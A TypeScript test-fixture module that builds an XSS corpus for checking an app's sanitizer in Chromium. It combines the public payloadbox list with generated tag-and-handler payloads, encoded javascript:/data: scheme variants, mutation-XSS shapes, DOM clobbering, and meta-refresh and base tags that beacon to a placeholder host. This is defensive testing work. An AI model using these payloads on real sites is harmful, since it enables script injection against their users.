import { readFileSync } from 'node:fs';

/**
 * The browser XSS corpus (issue 11): the public payloadbox list (MIT, see payloadbox-LICENSE, from
 * github.com/payloadbox/xss-payload-list at d473925) plus our own payloads for what that list
 * covers thinly — link schemes and their encodings (links are the one tag with an attribute that
 * survives), SVG/MathML, known mutation-XSS shapes, entity and unicode tricks, markdown-looking
 * text, CSS and page-wide tags (base, meta refresh), DOM clobbering. Our payloads call every hook
 * the test installs: dialogs, the `__xss` binding, a console marker, same-site and off-site beacons.
 */
export interface Payload {
  source: 'payloadbox' | 'confide';
  text: string;
}

/** JavaScript that reports itself through one of the test's hooks, varied by `n`. */
export function fire(n: number): string {
  const ways = [
    `alert(${n})`,
    `top.__xss('p${n}')`,
    `prompt(${n})`,
    `fetch('/xss-beacon/${n}')`,
    `confirm(${n})`,
    `new Image().src='//xss.invalid/${n}'`,
    `console.log('xss-fired-${n}')`,
    `location='//xss.invalid/nav-${n}'`,
    `window['al'+'ert'](${n})`,
    `self[atob('YWxlcnQ=')](${n})`,
  ];
  return ways[n % ways.length]!;
}

const tags = [
  'img src=x',
  'svg',
  'body',
  'iframe src=/xss-beacon/frame',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'marquee',
  'a href=https://example.com',
  'p',
  'strong',
  'blockquote',
  'li',
  'math',
  'object data=x',
  'embed src=x',
  'select autofocus',
  'textarea autofocus',
  'style',
  'image src=x',
  'input type=image src=x',
  'button autofocus',
  'form',
];
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onbegin',
  'onpageshow',
];

/** Every listed tag with every handler, quoted three ways. */
function tagsWithHandlers(): string[] {
  const out: string[] = [];
  let n = 0;
  for (const tag of tags) {
    for (const handler of handlers) {
      n += 1;
      const js = fire(n);
      // Double quotes, single quotes (the script's own quotes as entities), or none when it has no space.
      const single = `'${js.replaceAll("'", '&#39;')}'`;
      const quoted = n % 3 === 0 ? `"${js}"` : n % 3 === 1 || js.includes(' ') ? single : js;
      const name = tag.split(' ')[0];
      out.push(`<${tag} ${handler}=${quoted}>x${n}</${name}>`);
    }
  }
  return out;
}

/** `javascript:` and friends, spelt every way a parser might forgive. */
const schemes = [
  'javascript:JS',
  'JaVaScRiPt:JS',
  ' javascript:JS',
  '\tjavascript:JS',
  'java\tscript:JS',
  'java\nscript:JS',
  'java&#x09;script:JS',
  '&#106;avascript:JS',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;JS',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058JS',
  'javascript&colon;JS',
  'javascript&#58;JS',
  'java&NewLine;script:JS',
  'javas\u200bcript:JS',
  '\u0001javascript:JS',
  'javascript://%0aJS',
  'javascript://comment%0dJS',
  'data:text/html,<script>JS</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'livescript:JS',
  '//xss.invalid/proto-relative',
  '\\\\xss.invalid\\backslashes',
  '/\\xss.invalid/slash-backslash',
  'https:javascript:JS',
  'jar:https://xss.invalid/x.jar!/',
  'view-source:javascript:JS',
  'blob:https://xss.invalid/x',
  'filesystem:https://xss.invalid/x',
  'mailto:x@example.com?body=<script>JS</script>',
];

/** Each scheme where a URL is read: a link (allowed), and where links are not. */
function urls(): string[] {
  const out: string[] = [];
  let n = 100;
  for (const scheme of schemes) {
    n += 1;
    const url = scheme.replaceAll('JS', fire(n));
    out.push(
      `<a href="${url}">link ${n}</a>`,
      `<a href='${url}' target=_self rel=opener>link ${n}</a>`,
      `<iframe src="${url}"></iframe>`,
      `<form action="${url}"><button>go ${n}</button></form>`,
      `<svg><a xlink:href="${url}"><text y=20>svg ${n}</text></a></svg>`,
      `<math><maction actiontype=statusline xlink:href="${url}">math ${n}</maction></math>`,
      `<blockquote cite="${url}">quote ${n}</blockquote>`,
    );
  }
  return out;
}

/** Hand-written: mutation XSS, namespaces, comments, encodings, CSS, page-wide tags, clobbering. */
const handWritten = [
  // Mutation XSS (namespace confusion, parser re-entry) — shapes that beat sanitizers before.
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<p><svg><style>*{}</style><img src=x onerror=alert(1)></svg></p>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  '<a title="&lt;img src=x onerror=alert(1)&gt;">title</a>',
  '<strong data-x="</strong><img src=x onerror=alert(1)>">data</strong>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
  '<table><td><svg><img src=x onerror=alert(1)></svg></td></table>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<template><img src=x onerror=alert(1)></template>',
  '<div is="x-xss" onclick="alert(1)">custom</div>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:alert(1)"/><a><text y=20>set</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<math href="javascript:alert(1)">math link</math>',
  '<svg><discard onbegin=alert(1)>',
  // Entities and encodings: text that looks like markup must stay text.
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜script＞alert(1)＜/script＞',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror=alert&#40;1&#41;>',
  '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '<img src=x onerror=\\u0061lert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src="x',
  '<a href="https://example.com/" onclick=alert(1)//">unclosed',
  '<p onclick=alert(1)>paragraph with a handler</p>',
  '<b style="x:expression(alert(1))">expression</b>',
  '<i style="background:url(javascript:alert(1))">css url</i>',
  '<u style="behavior:url(x.htc)">behaviour</u>',
  '<style>@import "//xss.invalid/x.css";</style>',
  '<style>body{background:url("//xss.invalid/bg")}</style>',
  '<link rel=stylesheet href=//xss.invalid/x.css>',
  '<link rel=import href=//xss.invalid/x.html>',
  '<base href="//xss.invalid/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=//xss.invalid/meta">',
  '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="/xss-beacon/iframe" onload=alert(1)></iframe>',
  '<portal src="//xss.invalid/portal"></portal>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<input type=hidden accesskey=x onclick=alert(1)>',
  '<button form=x formaction="javascript:alert(1)">formaction</button>',
  '<a href="https://example.com" ping="//xss.invalid/ping">ping</a>',
  '<a href="https://example.com" download>download</a>',
  // DOM clobbering: names and ids the app or a script might read.
  '<a id="__xss" href="https://example.com">clobber id</a>',
  '<form name="getElementById"></form><img name="body" src=x>',
  '<a id=defaultView name=defaultView href="cid:alert(1)">clobber</a>',
  '<p id="root">a second root</p>',
  // Markdown-looking text is text: the app renders no markdown.
  '[click me](javascript:alert(1))',
  '![image](x" onerror="alert(1))',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>`',
  '[a](https://example.com "title" onclick=alert(1))',
  '```html\n<img src=x onerror=alert(1)>\n```',
  // Template syntax: nothing evaluates it.
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{{7*7}}[[7*7]]',
  // Unicode: bidi overrides, zero-width and look-alike characters around markup.
  '<a href="https://example.com/\u202egpj.exe">\u202egpj.exe</a>',
  '<img\u200bsrc=x\u200bonerror=alert(1)>',
  '<img src=x\u00a0onerror=alert(1)>',
  '<img src=x\u3000onerror=alert(1)>',
  '<іmg src=x onerror=alert(1)>',
  '\ufeff<script>alert(1)</script>',
  '<a href="https://xn--e1afmkfd.xn--p1ai/">punycode</a>',
];

/**
 * The views render every 6th line of the public list (all 6,613 take minutes to render in the app
 * on the shared machine); every line goes through the sanitizer into Chromium on its own page.
 */
export const VIEWS_EVERY = 6;

const cached = new Map<number, Payload[]>();

/** The corpus with every `every`-th line of the public list, then ours; each payload once. */
export function corpus(every: number): Payload[] {
  const known = cached.get(every);
  if (known) return known;
  const list = readFileSync(new URL('./payloadbox-xss-payload-list.txt', import.meta.url), 'utf8')
    .split('\n')
    .filter((line) => line.trim())
    .filter((_, i) => i % every === 0);
  const ours = [...tagsWithHandlers(), ...urls(), ...handWritten];
  const seen = new Set<string>();
  const payloads: Payload[] = [];
  for (const [source, texts] of [
    ['payloadbox', list],
    ['confide', ours],
  ] as const) {
    for (const text of texts) {
      if (seen.has(text)) continue;
      seen.add(text);
      payloads.push({ source, text });
    }
  }
  cached.set(every, payloads);
  return payloads;
}
